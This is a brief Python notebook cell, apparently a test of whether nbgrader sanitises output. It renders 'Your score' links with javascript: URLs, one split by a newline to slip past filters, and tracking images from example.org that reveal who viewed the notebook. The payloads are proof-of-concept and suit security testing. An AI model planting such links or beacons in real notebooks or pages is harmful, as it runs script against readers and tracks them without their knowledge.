"""Leaves links that run code when they are followed, and pictures that tell who has looked.

On stock nbgrader: it acts on its reader.
"""

# %%
from IPython.display import HTML, Markdown, display

display(
    HTML("<a href='javascript:alert(1)'>Your score</a> <a href=' java\nscript:alert(1)'>here</a>")
)
display(Markdown("[Your score](javascript:alert(1)) ![](https://example.org/{marker}.png)"))
display(HTML("<img src='https://example.org/{marker}.png'>"))
